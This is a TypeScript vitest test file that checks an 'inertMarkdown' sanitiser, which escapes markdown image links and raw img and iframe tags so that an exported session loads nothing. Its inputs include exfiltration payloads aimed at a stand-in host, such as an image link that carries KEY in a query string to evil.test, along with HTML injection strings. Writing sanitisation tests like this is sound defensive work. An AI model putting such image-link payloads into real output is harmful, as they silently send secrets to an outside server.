import { expect, test } from 'vitest';

import { inertMarkdown } from './inert-markdown.ts';

test.each([
  ['![x](https://evil.test/?q=KEY)', '\\![x](https://evil.test/?q=KEY)'],
  ['![x][1]\n[1]: https://evil.test', '\\![x][1]\n[1]: https://evil.test'],
  ['a <img src=https://evil.test> b', 'a &lt;img src=https://evil.test> b'],
  ['</details><iframe src=//evil.test>', '&lt;/details>&lt;iframe src=//evil.test>'],
  ['1 < 2 and [a](b)!', '1 < 2 and [a](b)!'],
  ['```html\n<img src=x>\n```\n<img src=y>', '```html\n<img src=x>\n```\n&lt;img src=y>'],
  ['    ```\n![x](u)', '    ```\n\\![x](u)'],
  ['```\n![x](u)', '```\n![x](u)\n```'],
  ['~~~~ a\n```', '~~~~ a\n```\n~~~~'],
  ['``` a`b\n![x](u)', '``` a`b\n\\![x](u)'],
])('[S18] an exported session loads nothing: %j', (text, inert) => {
  expect(inertMarkdown(text)).toBe(inert);
});
